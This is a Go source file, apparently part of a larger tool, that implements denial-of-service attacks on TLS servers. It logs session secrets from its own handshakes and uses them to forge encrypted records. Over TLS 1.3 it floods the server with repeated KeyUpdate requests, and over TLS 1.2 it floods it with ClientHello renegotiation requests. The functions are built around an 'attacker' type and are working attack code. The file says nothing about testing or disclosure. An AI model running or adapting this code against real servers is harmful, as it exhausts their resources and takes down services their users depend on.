package main

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// Go's client neither renegotiates nor updates keys. What a handshake agreed on is told to its KeyLogWriter, so that the
// records after it can be made here: of version 1.3 with TLS_AES_128_GCM_SHA256 (RFC 8446, sections 5.2 and 7), of 1.2 with
// TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256 (RFC 5246, sections 5 and 6.3; RFC 5288).

const (
	recordHandshake   = 22
	recordApplication = 23
)

// secretOf returns a line of a key log: its second and third column.
func secretOf(log, label string) (random, secret []byte, err error) {
	for line := range strings.Lines(log) {
		f := strings.Fields(line)
		if len(f) != 3 || f[0] != label {
			continue
		}
		if random, err = hex.DecodeString(f[1]); err == nil {
			secret, err = hex.DecodeString(f[2])
		}
		return random, secret, err
	}
	return nil, nil, fmt.Errorf("the handshake told no %s", label)
}

// gcm returns AES-128-GCM with a key.
func gcm(key []byte) cipher.AEAD {
	block, err := aes.NewCipher(key)
	if err != nil {
		panic(err) // of a key of another size
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		panic(err) // of another cipher
	}
	return aead
}

// sealer13 makes the records of a client.
type sealer13 struct {
	secret []byte
	aead   cipher.AEAD
	iv     []byte
	seq    uint64
}

func (s *sealer13) use(secret []byte) {
	*s = sealer13{secret: secret, aead: gcm(expand(secret, "key", 16)), iv: expand(secret, "iv", 12)}
}

// expand is HKDF-Expand-Label without a context.
func expand(secret []byte, label string, n int) []byte {
	label = "tls13 " + label
	info := append(binary.BigEndian.AppendUint16(nil, uint16(n)), byte(len(label)))
	out, err := hkdf.Expand(sha256.New, secret, string(append(append(info, label...), 0)), n)
	if err != nil {
		panic(err) // of too long a key
	}
	return out
}

// keyUpdate appends a record that asks for another key, and goes on with another.
func (s *sealer13) keyUpdate(b []byte) []byte {
	b = s.seal(b, 24, 0, 0, 1, 1, recordHandshake) // update_requested
	s.use(expand(s.secret, "traffic upd", sha256.Size))
	return b
}

// seal appends a record: its content, and what kind that is.
func (s *sealer13) seal(b []byte, inner ...byte) []byte {
	head := len(b)
	b = append(b, recordApplication, 3, 3)
	b = binary.BigEndian.AppendUint16(b, uint16(len(inner)+s.aead.Overhead()))
	nonce := bytes.Clone(s.iv)
	binary.BigEndian.PutUint64(nonce[4:], binary.BigEndian.Uint64(nonce[4:])^s.seq)
	s.seq++
	return s.aead.Seal(b, nonce, inner, b[head:])
}

// dialKnown opens the next connection, and tells what its keys are.
func (a *attacker) dialKnown(ctx context.Context, version uint16) (raw net.Conn, c *tls.Conn, keys string, first []byte, err error) {
	if raw, err = a.dial(ctx); err != nil {
		return nil, nil, "", nil, err
	}
	_ = raw.SetDeadline(time.Now().Add(2 * attackTime)) // never fails
	var log strings.Builder
	seen := &firstRead{Conn: raw}
	conf := cheapTLS("h2")
	conf.KeyLogWriter, conf.MinVersion, conf.MaxVersion = &log, version, version
	conf.CipherSuites = []uint16{tls.TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256} // of 1.2
	c = tls.Client(seen, conf)
	if err = c.HandshakeContext(ctx); err == nil && version == tls.VersionTLS13 && c.ConnectionState().CipherSuite != tls.TLS_AES_128_GCM_SHA256 {
		err = errors.New("another cipher")
	}
	if err != nil {
		raw.Close()
		return nil, nil, "", nil, err
	}
	return raw, c, log.String(), seen.got, nil
}

// firstRead remembers what came first.
type firstRead struct {
	net.Conn
	got []byte
}

func (f *firstRead) Read(p []byte) (int, error) {
	n, err := f.Conn.Read(p)
	if len(f.got) < 64 {
		f.got = append(f.got, p[:n]...)
	}
	return n, err
}

// mostUpdates is how many updates of keys crypto/tls takes without data between them.
const mostUpdates = 16

// keyUpdates asks for other keys again and again, with as little between as can be: parts of a frame that nobody knows.
func keyUpdates(a *attacker) (func(context.Context), error) {
	return func(ctx context.Context) {
		for ctx.Err() == nil {
			raw, c, keys, _, err := a.dialKnown(ctx, tls.VersionTLS13)
			if err != nil {
				continue
			}
			var s sealer13
			_, secret, err := secretOf(keys, "CLIENT_TRAFFIC_SECRET_0")
			if err == nil {
				s.use(secret)
				_, err = c.Write(append([]byte(http2.ClientPreface), frame(nil, 4, 0, 0, "")...))
				s.seq++ // that was one record
			}
			unknown := frame(nil, 0xfa, 0, 0, strings.Repeat("a", sendSize))
			go func() { _, _ = io.Copy(io.Discard, raw) }() // until it is closed
			stop := context.AfterFunc(ctx, func() { raw.Close() })
			b := make([]byte, 0, 2*sendSize)
			for i := 0; err == nil; i++ {
				for range mostUpdates {
					b = s.keyUpdate(b)
				}
				if b = s.seal(b, unknown[i%len(unknown)], recordApplication); len(b) >= sendSize {
					_, err = raw.Write(b)
					b = b[:0]
				}
			}
			stop()
			raw.Close()
		}
	}, nil
}

// renegotiate asks for another handshake within a connection, and goes on asking.
func renegotiate(a *attacker) (func(context.Context), error) {
	record, err := clientHello()
	if err != nil {
		return nil, err
	}
	hello := record[5:]
	return func(ctx context.Context) {
		for ctx.Err() == nil {
			raw, _, keys, first, err := a.dialKnown(ctx, tls.VersionTLS12)
			if err != nil {
				continue
			}
			var b []byte
			client, master, err := secretOf(keys, "CLIENT_RANDOM")
			if err == nil {
				server := first[11:43] // of the ServerHello: after two heads and a version
				block := prf12(master, "key expansion", append(bytes.Clone(server), client...), 2*16+2*4)
				aead, iv := gcm(block[:16]), block[32:36]
				for seq := uint64(1); len(b) < sendSize; seq++ { // 0 was Finished
					b = seal12(b, aead, iv, seq, hello)
				}
				_, err = raw.Write(b)
			}
			if err == nil {
				_, _ = io.Copy(io.Discard, raw) // until the server ends it, or the deadline
			}
			raw.Close()
		}
	}, nil
}

// seal12 appends a record of a handshake.
func seal12(b []byte, aead cipher.AEAD, iv []byte, seq uint64, content []byte) []byte {
	explicit := binary.BigEndian.AppendUint64(nil, seq)
	aad := binary.BigEndian.AppendUint16(append(bytes.Clone(explicit), recordHandshake, 3, 3), uint16(len(content)))
	b = append(b, recordHandshake, 3, 3)
	b = binary.BigEndian.AppendUint16(b, uint16(len(explicit)+len(content)+aead.Overhead()))
	return aead.Seal(append(b, explicit...), append(bytes.Clone(iv), explicit...), content, aad)
}

// prf12 is the pseudorandom function of TLS 1.2 with SHA-256 (RFC 5246, section 5).
func prf12(secret []byte, label string, seed []byte, n int) (out []byte) {
	mac := func(parts ...[]byte) []byte {
		h := hmac.New(sha256.New, secret)
		for _, p := range parts {
			h.Write(p)
		}
		return h.Sum(nil)
	}
	seed = append([]byte(label), seed...)
	for a := mac(seed); len(out) < n; a = mac(a) {
		out = append(out, mac(a, seed)...)
	}
	return out[:n]
}
